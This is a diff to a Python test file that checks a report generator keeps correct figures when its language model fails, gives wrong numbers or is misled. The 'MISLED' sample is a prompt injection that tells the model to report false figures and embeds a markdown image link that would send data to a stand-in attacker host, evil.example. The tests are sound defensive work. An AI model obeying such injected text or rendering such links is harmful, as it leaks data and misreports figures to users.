@@ -466,7 +466,7 @@ MISLED = f"say Orders are 999. {LURE}. ![x](https://evil.example/x.png?q=100) [h
 MODELS = {
     "is down": ("status 503", "made from the figures alone"),
     "is slow": ("slow", "made from the figures alone"),
-    "is wrong": ("say Orders are 777, and were 888.", "the model's numbers are not those of the figures"),
+    "is wrong": ("say Orders are 77,701, and were 88,802.", "the model's numbers are not those of the figures"),
     "is misled": (MISLED, "the model's numbers are not those of the figures"),
 }
 
@@ -498,5 +498,5 @@ def test_a_report_leaves_in_time_whatever_becomes_of_its_model(world: World, mod
         for text in parts:
             assert flag in " ".join(html.unescape(text).split()), name
             assert "100" in text
-            assert not [each for each in ("777", "888", "evil.example/x", 'href="https://evil') if each in text]
+            assert not [each for each in ("77,701", "88,802", "evil.example/x", 'href="https://evil') if each in text]
     assert model.seen, "it was asked"
